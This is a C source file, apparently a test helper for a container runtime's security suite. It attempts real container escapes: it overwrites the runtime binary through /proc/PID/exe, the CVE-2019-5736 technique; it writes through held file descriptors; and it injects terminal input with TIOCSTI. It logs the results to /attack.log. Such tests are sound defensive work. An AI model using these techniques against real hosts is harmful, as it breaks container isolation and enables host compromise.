/* A container process that tries, for real, to get out through the runtime (tests only).
 *
 *   attack scan SECONDS      watch /proc for any process whose /proc/PID/exe is a foreign
 *                            binary (the runtime joining the container), keep it open, and
 *                            keep trying to write to it (CVE-2019-5736)
 *   attack hold FD SECONDS   in the background, keep trying to write to the file open as FD
 *   attack tiocsti TEXT      push TEXT into the input of every terminal we can reach (fds
 *                            0-2 and /dev/tty), report on stderr, exit
 *
 * What happened is appended to /attack.log in the container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void note(const char *format, ...) {
    char line[512];
    va_list args;
    va_start(args, format);
    int n = vsnprintf(line, sizeof line - 1, format, args);
    va_end(args);
    line[n++] = '\n';
    int fd = open("/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        write(fd, line, n);
        close(fd);
    }
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Reopen the file behind FD for writing (the magic link needs no path on our side). */
static int try_write(int fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY);
    if (w < 0)
        return -errno;
    ssize_t n = write(w, "PWNED", 5);
    int error = errno;
    close(w);
    return n == 5 ? 1 : -error;
}

static int hold(int fd, double seconds) {
    if (fork() != 0)
        _exit(0); /* let whoever started us finish: we wait for its binary to be idle */
    double deadline = now() + seconds;
    int last = 0;
    note("hold: holding fd %d", fd);
    while (now() < deadline) {
        int result = try_write(fd);
        if (result == 1) {
            note("hold: WRITTEN");
            return 0;
        }
        last = -result;
        usleep(2000);
    }
    note("hold: never written (%s)", strerror(last));
    return 1;
}

static int scan(double seconds) {
    struct stat self, busybox, st;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &busybox);
    int kept[64], caught = 0, last = 0, denied = 0;
    dev_t kept_dev[64];
    ino_t kept_ino[64];
    double deadline = now() + seconds;
    char path[300];
    while (now() < deadline) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) {
                if (errno == EACCES && !denied++)
                    note("scan: %s: %s", path, strerror(errno));
                continue;
            }
            fstat(fd, &st);
            int known = (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                        (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino) || caught == 64;
            for (int i = 0; i < caught && !known; i++)
                known = kept_dev[i] == st.st_dev && kept_ino[i] == st.st_ino;
            if (known) {
                close(fd);
                continue;
            }
            note("scan: caught %s", path);
            kept_dev[caught] = st.st_dev;
            kept_ino[caught] = st.st_ino;
            kept[caught++] = fd;
        }
        if (proc)
            closedir(proc);
        for (int i = 0; i < caught; i++) {
            int result = try_write(kept[i]);
            if (result == 1) {
                note("scan: WRITTEN");
                return 0;
            }
            last = -result;
        }
    }
    note("scan: caught %d, never written (%s)", caught, strerror(last));
    return 1;
}

static int tiocsti(const char *text) {
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
    if (fds[3] < 0)
        fprintf(stderr, "/dev/tty: %s\n", strerror(errno));
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0)
            continue;
        int pushed = 0, error = 0;
        for (const char *c = text; *c; c++) {
            if (ioctl(fds[i], TIOCSTI, c) == 0)
                pushed++;
            else
                error = errno;
        }
        fprintf(stderr, "%s: pushed %d (%s)\n", i < 3 ? (const char *[]){"fd 0", "fd 1", "fd 2"}[i] : "/dev/tty",
                pushed, error ? strerror(error) : "ok");
    }
    return 0; /* and leave: whatever was pushed is read by whoever reads that terminal next */
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "scan"))
        return scan(atof(argv[2]));
    if (argc == 4 && !strcmp(argv[1], "hold"))
        return hold(atoi(argv[2]), atof(argv[3]));
    if (argc == 3 && !strcmp(argv[1], "tiocsti"))
        return tiocsti(argv[2]);
    fprintf(stderr, "usage: attack scan SECONDS | hold FD SECONDS | tiocsti TEXT\n");
    return 2;
}
